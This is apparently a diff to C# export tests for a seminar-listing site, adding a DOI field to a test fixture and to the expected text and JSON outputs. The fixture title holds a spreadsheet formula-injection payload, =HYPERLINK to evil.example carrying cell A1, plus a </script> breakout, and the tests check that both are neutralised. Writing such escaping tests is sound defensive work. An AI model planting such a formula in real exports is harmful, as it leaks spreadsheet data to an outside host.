@@ -29,6 +29,7 @@ public sealed class ExportSite : IAsyncLifetime
               - name: 大谷直樹
                 affiliation: King's & Co
             original_title: Loops
+            doi: https://doi.org/10.5281/zenodo.1234567
             author: Lucy Chapman
             location: "@home"
             language: nl
@@ -76,7 +77,7 @@ public class ExportTests(ExportSite shared) : IClassFixture<ExportSite>
         Assert.Equal(
             [
                 "key: awkward", "title: '=HYPERLINK(\"https://evil.example/?\"&A1), \"loops\", </script> 😀", "date: 2020-02-13", "end_date: ", "time: 16:00", "end_time: 17:30", "time_zone: Europe/London", "event_status: scheduled", "reason: ",
-                "speakers: Ludwig van der Berg; 大谷直樹", "affiliations: King's & Co", "categories: Handicraft", "tags: '-rope; wire", "location: '@home", "language: nl", "url: https://seminars.example.org/seminars/awkward/",
+                "speakers: Ludwig van der Berg; 大谷直樹", "affiliations: King's & Co", "categories: Handicraft", "tags: '-rope; wire", "location: '@home", "language: nl", "url: https://seminars.example.org/seminars/awkward/", "doi: 10.5281/zenodo.1234567",
                 "slides: https://seminars.example.org/slides/My%20deck.pdf", "recordings: https://video.example/1", "posted_by: Lucy Chapman", "posted: 2020-02-20", "updated: 2021-03-04", "original_title: Loops",
                 "abstract: First line,\nwith marks and a link.\n\nSecond; <a href=\"/x\">",
             ],
@@ -97,6 +98,7 @@ public class ExportTests(ExportSite shared) : IClassFixture<ExportSite>
               "key": "awkward",
               "slug": "awkward",
               "url": "https://seminars.example.org/seminars/awkward/",
+              "doi": "10.5281/zenodo.1234567",
               "title": "=HYPERLINK(\"https://evil.example/?\"&A1), \"loops\", </script> 😀",
               "original_title": "Loops",
               "date": "2020-02-13",
